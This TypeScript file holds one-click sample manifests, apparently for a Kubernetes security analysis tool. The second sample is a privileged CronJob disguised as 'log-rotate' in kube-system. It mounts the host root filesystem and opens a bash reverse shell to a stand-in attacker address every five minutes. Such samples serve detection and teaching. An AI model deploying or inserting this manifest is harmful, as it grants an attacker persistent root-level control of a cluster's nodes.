// Samples a visitor can load with one click. The first is the public adversary-emulation test for
// T1053.007 (redcanaryco/atomic-red-team, atomics/T1053.007/src/cronjob.yaml), verbatim.

export interface Sample {
  label: string;
  fileName: string;
  text: string;
}

export const SAMPLES: Sample[] = [
  {
    label: 'Atomic Red Team CronJob',
    fileName: 'atomic-red-team-T1053.007-cronjob.yaml',
    text: `apiVersion: batch/v1beta1
kind: CronJob
metadata:
  name: art
spec:
  schedule: "*/1 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
          - name: hello
            image: busybox:stable
            imagePullPolicy: IfNotPresent
            command:
            - /bin/sh
            - -c
            - date; echo Hello from Atomic Red Team
          restartPolicy: OnFailure`,
  },
  {
    label: 'Reverse-shell CronJob',
    fileName: 'log-rotate.yaml',
    text: `apiVersion: batch/v1
kind: CronJob
metadata:
  name: log-rotate
  namespace: kube-system
spec:
  schedule: "*/5 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          hostNetwork: true
          hostPID: true
          restartPolicy: OnFailure
          containers:
          - name: rotate
            image: docker.io/library/alpine:3.20
            command: ["/bin/sh", "-c"]
            args:
            - apk add --no-cache bash && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
            securityContext:
              privileged: true
            volumeMounts:
            - name: host
              mountPath: /host
          volumes:
          - name: host
            hostPath:
              path: /
`,
  },
];
